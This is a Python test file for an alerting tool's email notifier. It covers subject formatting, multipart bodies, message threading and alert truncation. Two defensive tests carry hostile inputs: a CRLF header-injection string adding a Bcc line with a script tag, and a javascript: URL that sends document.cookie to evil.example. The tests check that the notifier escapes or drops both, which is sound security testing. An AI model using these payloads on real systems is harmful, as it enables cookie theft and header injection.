"""The mail a notification becomes, built without sockets."""

from __future__ import annotations

from email import message_from_bytes, policy

from monitor.alerting.notifiers import email as email_notifier
from monitor.model import NotificationAction, Tier
from tests.fakes.alerts import alert, notification


def test_subject_has_tier_action_and_count():
    group = notification(alerts=[alert(1, tier=Tier.P2), alert(2, tier=Tier.P1), alert(3, tier=Tier.P2)])
    assert email_notifier.subject(group) == "[dagwatch] [P1] FIRING 3 alerts: fit_model failed after 3 tries"
    assert email_notifier.subject(notification(NotificationAction.RESOLVED)).startswith("[dagwatch] [P1] RESOLVED 1 alert:")


def test_multipart_alternative_with_every_alert_in_both_parts():
    group = notification(alerts=[alert(1), alert(2, task_id="evaluate"), alert(3, task_id="export")])
    mail = email_notifier.message(group, "dagwatch@example.org", ["ml@example.org", "oncall@example.org"])
    parsed = message_from_bytes(mail.as_bytes(), policy=policy.default)
    assert parsed.get_content_type() == "multipart/alternative"
    plain = parsed.get_body(("plain",)).get_content()
    html = parsed.get_body(("html",)).get_content()
    for task in ("fit_model", "evaluate", "export"):
        assert task in plain and task in html
    assert "http://airflow.test/dags/train_ranker/grid" in plain
    assert parsed["To"] == "ml@example.org, oncall@example.org"


def test_message_id_stable_per_delivery_and_thread_per_group():
    a = email_notifier.message(notification(), "f@x", ["t@x"])
    b = email_notifier.message(notification(), "f@x", ["t@x"])
    resolved = email_notifier.message(notification(NotificationAction.RESOLVED, idempotency_key="dagwatch-8"), "f@x", ["t@x"])
    assert a["Message-ID"] == b["Message-ID"] != resolved["Message-ID"]
    assert a["References"] == resolved["References"]


def test_untrusted_text_is_escaped_and_cannot_inject_headers():
    evil = alert(summary="ok\r\nBcc: victim@example.org <script>x</script>", details={"error": "<b>boom</b>"})
    mail = email_notifier.message(notification(alerts=[evil]), "f@x", ["t@x"])
    parsed = message_from_bytes(mail.as_bytes(), policy=policy.default)
    assert parsed["Bcc"] is None and "\n" not in parsed["Subject"]
    html = parsed.get_body(("html",)).get_content()
    assert "<script>" not in html and "&lt;script&gt;" in html and "&lt;b&gt;boom" in html


def test_long_groups_are_bounded():
    many = [alert(i) for i in range(1, 80)]
    text = email_notifier.plain_text(notification(alerts=many))
    assert "and 29 more alerts" in text


def test_a_javascript_url_from_event_data_is_never_a_link_in_the_mail():
    evil = alert(
        links={"orchestrator": "javascript:fetch('//evil.example/'+document.cookie)", "dashboard": "http://dagwatch.test/alerts/1"}
    )
    mail = email_notifier.message(notification(alerts=[evil]), "f@x", ["t@x"])
    parsed = message_from_bytes(mail.as_bytes(), policy=policy.default)
    for part in (parsed.get_body(("html",)).get_content(), parsed.get_body(("plain",)).get_content()):
        assert "javascript:" not in part and "http://dagwatch.test/alerts/1" in part
